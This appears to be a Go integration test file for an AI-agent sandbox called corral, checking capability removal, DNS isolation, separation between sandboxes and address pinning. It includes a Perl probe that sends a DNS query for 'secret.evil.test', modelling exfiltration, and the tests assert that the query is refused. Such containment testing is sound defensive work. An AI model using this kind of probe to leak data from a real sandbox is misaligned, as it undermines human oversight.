package engine

import (
	"fmt"
	"net/netip"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/corral-sandbox/corral/internal/spec"
	"github.com/corral-sandbox/corral/internal/testenv"
	"github.com/corral-sandbox/corral/test/lab"
)

// Only a gate ever holds a capability: neither the agent's container as
// created, nor its first process, nor the harness's first instruction.
func TestNoCapabilityEver(t *testing.T) {
	t.Parallel()
	s := project(t, nothing)
	end := s.up("cat /proc/self/status /proc/1/status; echo up; read -r _", "up")
	inspect := docker(t, "inspect", "--format", "{{json .HostConfig.CapAdd}} {{json .HostConfig.CapDrop}} {{json .HostConfig.Privileged}} {{.Config.User}} {{json .HostConfig.SecurityOpt}}", s.agent())
	for _, want := range []string{`null ["ALL"] false`, fmt.Sprintf("%d:%d", ownerUID, ownerGID), "no-new-privileges", "seccomp="} {
		if !strings.Contains(inspect, want) {
			t.Errorf("no %s in %s", want, inspect)
		}
	}
	got := docker(t, "inspect", "--format", "{{json .HostConfig.CapAdd}} {{json .HostConfig.CapDrop}}", s.gate())
	if want := `["CAP_KILL","CAP_NET_ADMIN","CAP_NET_RAW","CAP_SETGID","CAP_SETUID"] ["ALL"]`; got != want {
		t.Errorf("the gate has %s, want %s", got, want)
	}
	out := docker(t, "exec", s.agent(), "cat", "/proc/1/status", "/proc/self/status")
	end()
	sets := regexp.MustCompile(`(?m)^Cap(Inh|Prm|Eff|Bnd|Amb):\s*([0-9a-f]+)$`).FindAllStringSubmatch(out, -1)
	if len(sets) != 10 {
		t.Fatalf("%d capability sets in %s", len(sets), out)
	}
	for _, m := range sets {
		if strings.Trim(m[2], "0") != "" {
			t.Errorf("Cap%s is %s", m[1], m[2])
		}
	}
	r := s.corral("run", "--", "cat", "/proc/self/status")
	if n := len(regexp.MustCompile(`(?m)^Cap\w+:\s*0+$`).FindAllString(r.out, -1)); n != 5 {
		t.Errorf("the harness's first instruction: %d empty sets of 5: %v", n, r)
	}
}

// ask is a perl program that sends one DNS query for secret.evil.test to
// ADDRESS PORT by udp or tcp, and says whether anybody answered.
const ask = `
use Socket;
my ($to, $port, $kind) = @ARGV;
my $q = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x04test\x00\x00\x01\x00\x01";
socket(my $s, PF_INET, $kind eq "udp" ? SOCK_DGRAM : SOCK_STREAM, 0) or die;
connect($s, sockaddr_in($port, inet_aton($to))) or do { print "refused\n"; exit };
syswrite($s, $kind eq "udp" ? $q : pack("n", length $q) . $q);
my $r = ""; vec($r, fileno($s), 1) = 1;
if (select($r, undef, undef, 1) && sysread($s, my $b, 512)) { print "answered\n" } else { print "refused\n" }
`

// R018: the gate's own right to resolve is not the agent's, who shares its
// namespace: not a packet leaves for the very resolver that the gate asked.
func TestTheGatesResolverIsNotTheAgents(t *testing.T) {
	t.Parallel()
	s := project(t, allowed)
	s.lab.DNS.Set("api.allowed.test", lab.A("44.10.0.10"))
	s.lab.DNS.Set("secret.evil.test", lab.A("44.10.0.11"))
	s.write("ask.pl", ask)
	end := s.up("echo up; read -r _", "up")
	defer end()
	capture := s.lab.Capture(t, bridge)
	for _, to := range []string{lab.NameServer.String(), lab.Authority.String(), "172.30.0.1"} {
		for _, kind := range []string{"udp", "tcp"} {
			if got := docker(t, "exec", s.agent(), "perl", filepath.Join(s.dir, "ask.pl"), to, "53", kind); got != "refused" {
				t.Errorf("%s %s: %s", kind, to, got)
			}
		}
	}
	own := netip.MustParseAddr(address(t, s))
	if p := capture.Match(func(p lab.Packet) bool { return p.Src == own }); len(p) > 0 {
		t.Errorf("%d packets left, the first %v", len(p), p[0])
	}
	// The same program reaches that resolver from a container without a fence.
	got := docker(t, "run", "--rm", "--network", "corral", "--volume", s.dir+":"+s.dir+":ro", testenv.BaseImage,
		"perl", filepath.Join(s.dir, "ask.pl"), lab.NameServer.String(), "53", "udp")
	if got != "answered" {
		t.Errorf("the control was %s: nothing can be told", got)
	}
}

// R006, R017: Docker's own resolver cannot be used in any way, while its
// rules in the nat table stay as they are.
func TestDockersResolverIsClosed(t *testing.T) {
	// Alone: nobody else may ask another name server.
	s := project(t, allowed)
	s.lab.DNS.Set("api.allowed.test", lab.A("44.10.0.10"))
	end := s.up("echo up; read -r _", "up")
	nat := inNamespace(t, s.gate(), "iptables-save", "-t", "nat")
	if !strings.Contains(nat, "127.0.0.11") {
		t.Errorf("Docker's rules are gone from nat: %s", nat)
	}
	capture := s.lab.Capture(t, bridge)
	s.write("ask.pl", ask)
	asked := len(s.lab.DNS.Queries("secret.evil.test"))
	ports := []string{"53"}
	for _, m := range regexp.MustCompile(`--to-destination 127\.0\.0\.11:(\d+)`).FindAllStringSubmatch(nat, -1) {
		ports = append(ports, m[1])
	}
	if len(ports) != 3 {
		t.Errorf("Docker's resolver has ports %v, want 53 and two hidden ones", ports)
	}
	for _, port := range ports {
		for _, kind := range []string{"udp", "tcp"} {
			if got := docker(t, "exec", s.agent(), "perl", filepath.Join(s.dir, "ask.pl"), "127.0.0.11", port, kind); got != "refused" {
				t.Errorf("%s %s: %s", kind, port, got)
			}
		}
	}
	end()
	if p := capture.Match(func(p lab.Packet) bool { return p.DstPort == 53 && p.Dst != lab.NameServer }); len(p) > 0 {
		t.Errorf("a lookup left: %v", p[0])
	}
	if q := s.lab.DNS.Queries("secret.evil.test")[asked:]; len(q) > 0 {
		t.Errorf("the name server was asked: %v", q[0])
	}
}

// Two sandboxes at once cannot reach each other, and the end of one is nothing
// to the other.
func TestTwoSandboxes(t *testing.T) {
	t.Parallel()
	one := project(t, nothing)
	two := project(t, allowed)
	two.lab.DNS.Set("api.allowed.test", lab.A("44.10.0.10"))
	// The parent leaves once the socket listens; its child answers.
	listen := `perl -MIO::Socket::INET -e 'my $l = IO::Socket::INET->new(Listen => 5, LocalPort => 8080) or die; exit if fork; while (my $c = $l->accept) { close $c }'; ` +
		connect + `t $(hostname -i) 8080; read -r _`
	endOne := one.up(listen, " 0 ") // reached from its own side: the listener is there
	address := address(t, one)
	capture := two.lab.Capture(t, bridge)
	endTwo := two.up(connect+"t "+address+" 8080; echo up; read -r _; t api.allowed.test 443; echo after", "up")

	out := docker(t, "logs", two.agent())
	if !regexp.MustCompile(regexp.QuoteMeta(address) + ` [1-9]`).MatchString(out) {
		t.Errorf("the other sandbox: %s", out)
	}
	if p := capture.To(netip.MustParseAddr(address)); len(p) > 0 {
		t.Errorf("a packet between sandboxes: %v", p[0])
	}
	v := two.corral("verify")
	if v.code != 0 || !regexp.MustCompile(`(?m)^ok +peer-unreachable:`+regexp.QuoteMeta(one.id)).MatchString(v.out) {
		t.Error(v)
	}
	if r := one.corral("down"); r.code != 0 {
		t.Error(r)
	}
	endOne()
	if left := one.containers(); len(left) > 0 {
		t.Errorf("left of the one: %v", left)
	}
	out = docker(t, "exec", two.agent(), "bash", "-c", connect+"t api.allowed.test 443")
	if !strings.Contains(out, "api.allowed.test 0 ") {
		t.Errorf("the other one after the first has ended: %s", out)
	}
	endTwo()
}

// R008: every name of the hosts file is in the set and the reverse, from one
// resolution, also where each query gives another part of a pool.
func TestRotatingPool(t *testing.T) {
	t.Parallel()
	const name = "pool.allowed.test"
	s := project(t, strings.ReplaceAll(allowed, "api.allowed.test", name))
	pool := []string{}
	for i := 10; i <= 30; i++ {
		pool = append(pool, fmt.Sprintf("44.10.0.%d", i))
	}
	s.lab.DNS.Set(name, lab.A(pool...).Rotating(4))
	end := s.up("echo up; read -r _", "up")
	defer end()
	var status spec.GateStatus
	if err := spec.Decode(strings.NewReader(docker(t, "exec", s.gate(), spec.GuestDir+"/bin/corral-gate", "status", "--json")), &status); err != nil {
		t.Fatal(err)
	}
	if len(status.Pins) != 1 || len(status.Pins[0].Addrs) <= 4 {
		t.Fatalf("one answer only was pinned: %v", status.Pins)
	}
	set := inNamespace(t, s.gate(), "ipset", "list", "corral-pins")
	hosts := docker(t, "exec", s.agent(), "cat", "/etc/hosts")
	for _, a := range status.Pins[0].Addrs {
		if !strings.Contains(set, a.String()+",tcp:443") || !regexp.MustCompile(`(?m)^`+regexp.QuoteMeta(a.String())+`\s.*`+regexp.QuoteMeta(name)).MatchString(hosts) {
			t.Errorf("%v is not in both the set and the hosts file", a)
		}
	}
	if n := len(regexp.MustCompile(regexp.QuoteMeta(name)).FindAllString(hosts, -1)); n != len(status.Pins[0].Addrs) {
		t.Errorf("%d lines in the hosts file for %d pins", n, len(status.Pins[0].Addrs))
	}
	out := docker(t, "exec", s.agent(), "bash", "-c", connect+"for i in $(seq 200); do t "+name+" 443; done")
	if n := strings.Count(out, name+" 0 "); n != 200 {
		t.Errorf("%d of 200 connections to a rotating pool", n)
	}
}

// address is a sandbox's on the corral network.
func address(t *testing.T, s *sandbox) string {
	t.Helper()
	return docker(t, "inspect", "--format", "{{.NetworkSettings.Networks.corral.IPAddress}}", s.gate())
}

// inNamespace runs a program of the host's in a container's network namespace.
func inNamespace(t *testing.T, container string, args ...string) string {
	t.Helper()
	pid := docker(t, "inspect", "--format", "{{.State.Pid}}", container)
	return run(t, append([]string{"nsenter", "--target", pid, "--net"}, args...)...)
}

// Bring-up says what pins cannot tell apart (R029).
func TestSharedAddressIsSaid(t *testing.T) {
	t.Parallel()
	s := project(t, "profile: shell\nname: shared\negress:\n  allow: [shared-a.allowed.test, {domain: shared-b.allowed.test, ports: [22], liveness: false}]\n")
	for _, name := range []string{"shared-a.allowed.test", "shared-b.allowed.test"} {
		s.lab.DNS.Set(name, lab.A("44.10.0.10"))
	}
	r := s.sh("true")
	if want := "corral: notice: shared-a.allowed.test, shared-b.allowed.test share 44.10.0.10: "; r.code != 0 || strings.Count(r.err, want) != 1 {
		t.Error(r)
	}
}
